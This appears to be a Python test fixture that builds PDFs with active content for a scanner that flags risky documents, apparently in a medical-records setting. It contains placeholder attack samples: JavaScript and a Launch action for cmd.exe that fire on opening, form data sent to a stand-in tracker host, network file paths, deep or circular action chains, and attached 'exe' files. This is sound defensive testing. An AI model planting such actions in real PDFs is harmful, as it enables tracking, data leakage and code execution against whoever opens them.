"""PDFs that act when they are opened, one kind each, made here: none of them is a file of anybody."""

from __future__ import annotations

import io
from typing import TYPE_CHECKING, Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from cases.enums import RecordNote

if TYPE_CHECKING:
    from collections.abc import Callable

    Change = Callable[[pikepdf.Pdf], None]

PAGE_WORDS = b"BT /F1 24 Tf 72 500 Td (Lumbar spine, no fracture) Tj ET 0.8 0.2 0.2 rg 72 300 200 80 re f"


def made(change: Change = lambda _pdf: None, *, pages: int = 2) -> bytes:
    """A PDF of pages that show words and a box, changed."""
    with pikepdf.new() as pdf:
        font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        for _ in range(pages):
            page = pdf.add_blank_page(page_size=(612, 792))
            page.Resources = Dictionary(Font=Dictionary(F1=font))
            page.Contents = pdf.make_stream(PAGE_WORDS)
        change(pdf)
        file = io.BytesIO()
        pdf.save(file)
    return file.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


ACTIONS: dict[str, tuple[Callable[[], Dictionary], RecordNote]] = {
    "a script": (script, RecordNote.SCRIPT),
    "a program": (lambda: Dictionary(S=Name.Launch, F=String("cmd.exe")), RecordNote.PROGRAM),
    "a web address": (lambda: Dictionary(S=Name.URI, URI=String("http://tracker.example/?a")), RecordNote.ADDRESS),
    "sending a form": (
        lambda: Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://tracker.example"))),
        RecordNote.SENDING,
    ),
    "fetching form data": (lambda: Dictionary(S=Name.ImportData, F=String("data.fdf")), RecordNote.SENDING),
    "a file on the network": (
        lambda: Dictionary(S=Name.GoToR, F=String("\\\\tracker.example\\share\\a.pdf"), D=Array([0, Name.Fit])),
        RecordNote.ELSEWHERE,
    ),
    "a file inside": (
        lambda: Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a.pdf"))),
        RecordNote.ELSEWHERE,
    ),
    "a rendition": (
        lambda: Dictionary(S=Name.Rendition, OP=0, R=Dictionary(S=Name.MR, C=Dictionary(S=Name.MCD))),
        RecordNote.MEDIA,
    ),
    "a film": (lambda: Dictionary(S=Name.Movie, Operation=Name.Play), RecordNote.MEDIA),
    "a model in 3D": (lambda: Dictionary(S=Name("/GoTo3DView")), RecordNote.MEDIA),
}


def _annotation(pdf: pikepdf.Pdf, **keys: Any) -> Dictionary:
    made = Dictionary(Type=Name.Annot, Rect=Array([300, 300, 400, 340]), **keys)
    pdf.pages[0].Annots = Array([*pdf.pages[0].get("/Annots", ()), pdf.make_indirect(made)])
    return pdf.pages[0].Annots[-1]


def _field(pdf: pikepdf.Pdf, **keys: Any) -> None:
    field = _annotation(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), **keys)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


PLACES: dict[str, Callable[[pikepdf.Pdf, Dictionary], None]] = {
    "on opening": lambda pdf, action: setattr(pdf.Root, "OpenAction", pdf.make_indirect(action)),
    "on closing": lambda pdf, action: setattr(pdf.Root, "AA", Dictionary(WC=action)),
    "on turning a page": lambda pdf, action: setattr(pdf.pages[1], "AA", Dictionary(O=action)),
    "when the mouse enters": lambda pdf, action: _annotation(pdf, Subtype=Name.Link, AA=Dictionary(E=action)),
    "when a page with a note is seen": lambda pdf, action: _annotation(
        pdf, Subtype=Name.Text, AA=Dictionary(PV=action)
    ),
    "when a field is left": lambda pdf, action: _field(pdf, AA=Dictionary(Bl=action)),
}


def chained(action: Dictionary, *, links: int) -> Change:
    """The action after so many harmless ones."""

    def change(pdf: pikepdf.Pdf) -> None:
        following = pdf.make_indirect(action)
        for _ in range(links):
            following = pdf.make_indirect(
                Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([following]))
            )
        pdf.Root.OpenAction = following

    return change


def in_a_circle(pdf: pikepdf.Pdf) -> None:
    """Two actions that follow each other for ever, and a script after one of them."""
    one = pdf.make_indirect(Dictionary(S=Name.Named, N=Name.NextPage))
    two = pdf.make_indirect(Dictionary(S=Name.Named, N=Name.PrevPage, Next=one))
    one.Next = Array([two, script()])
    pdf.Root.OpenAction = one


def _attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["letter.exe"] = b"MZ"


def _attached_to_a_page(pdf: pikepdf.Pdf) -> None:
    inside = pdf.make_stream(b"MZ")
    _annotation(pdf, Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, EF=Dictionary(F=inside)))


def _named_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))


def _external_picture(pdf: pikepdf.Pdf) -> None:
    picture = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8)
    picture.ColorSpace = Name.DeviceGray
    picture.F = Dictionary(FS=Name.URL, F=String("http://tracker.example/a.png"))
    pdf.pages[0].Resources.XObject = Dictionary(Im0=pdf.make_indirect(picture))


def _external_page(pdf: pikepdf.Pdf) -> None:
    form = Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Ref = Dictionary(F=String("\\\\tracker.example\\a.pdf"), Page=0)
    pdf.pages[0].Resources.XObject = Dictionary(Fm0=pdf.make_indirect(form))


def _post_script(pdf: pikepdf.Pdf) -> None:
    program = Stream(pdf, b"systemdict /quit get exec", Type=Name.XObject, Subtype=Name.PS)
    pdf.pages[0].Resources.XObject = Dictionary(P0=pdf.make_indirect(program))


def _xfa(pdf: pikepdf.Pdf) -> None:
    _field(pdf, V=String("Adele Marchetti"))
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp/>")


def _rich_media(pdf: pikepdf.Pdf) -> None:
    _annotation(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary()))


def _screen(pdf: pikepdf.Pdf) -> None:
    _annotation(pdf, Subtype=Name.Screen, T=String("film"))


def _signed(pdf: pikepdf.Pdf) -> None:
    _field(pdf)
    pdf.pages[0].Annots[0].FT = Name.Sig
    pdf.pages[0].Annots[0].V = Dictionary(Type=Name.Sig, Contents=String("00"))


HOSTILE: dict[str, tuple[Change, RecordNote]] = {
    **{
        f"{name} {place}": ((lambda pdf, put=put, action=action: put(pdf, action())), note)
        for place, put in PLACES.items()
        for name, (action, note) in ACTIONS.items()
    },
    "a script after thirty jumps": (chained(script(), links=30), RecordNote.SCRIPT),
    "an address after a thousand jumps": (chained(ACTIONS["a web address"][0](), links=1000), RecordNote.ADDRESS),
    "actions in a circle": (in_a_circle, RecordNote.SCRIPT),
    "a script of the document": (_named_script, RecordNote.SCRIPT),
    "a program in PostScript": (_post_script, RecordNote.SCRIPT),
    "an attached program": (_attached, RecordNote.FILES),
    "a program attached to a page": (_attached_to_a_page, RecordNote.FILES),
    "a picture from elsewhere": (_external_picture, RecordNote.ELSEWHERE),
    "a page from elsewhere": (_external_page, RecordNote.ELSEWHERE),
    "a form of Adobe's": (_xfa, RecordNote.XFA),
    "rich media": (_rich_media, RecordNote.MEDIA),
    "a screen for a film": (_screen, RecordNote.MEDIA),
    "a signature": (_signed, RecordNote.SIGNATURE),
}
